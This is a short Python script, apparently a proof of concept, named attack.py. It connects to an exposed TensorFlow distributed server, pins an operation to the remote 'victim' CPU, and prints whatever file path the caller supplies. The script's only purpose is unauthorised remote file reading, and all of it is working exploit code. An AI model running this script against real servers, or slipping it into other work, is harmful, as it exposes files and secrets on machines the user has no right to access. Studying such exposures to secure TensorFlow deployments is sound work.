"""A stranger: reads a file through a TensorFlow server without a part in its job. Prints it, or "refused".

Usage: attack.py HOST:PORT FILE
"""

import socket
import sys

import tensorflow as tf

server, path = sys.argv[1:]
host, _, port = server.rpartition(":")
try:
    socket.create_connection((host, int(port)), 3).close()
except TimeoutError:
    print("refused")
    sys.exit()

tf.config.experimental_connect_to_host(server, job_name="victim")
with tf.device("/job:victim/task:0/device:CPU:0"):
    print(tf.io.read_file(path).numpy().decode())
